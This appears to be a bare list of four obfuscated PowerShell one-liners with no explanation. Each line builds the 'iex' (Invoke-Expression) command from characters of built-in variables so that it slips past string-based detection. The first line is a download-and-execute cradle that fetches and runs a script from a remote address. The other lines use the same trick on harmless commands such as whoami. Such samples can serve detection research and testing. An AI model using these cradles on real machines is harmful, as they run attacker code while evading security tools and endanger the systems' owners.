.($env:ComSpec[4,15,25] -join '') (New-Object Net.WebClient).DownloadString('http://192.0.2.44/r.ps1')
&($pshome[4]+$pshome[30]+'x') 'Get-Date'
&( $ShellId[1]+$ShellId[13]+'x') ('w'+'hoami')
. ( $VerbosePreference.ToString()[1,3]+'x'-join'') 'Get-Host'
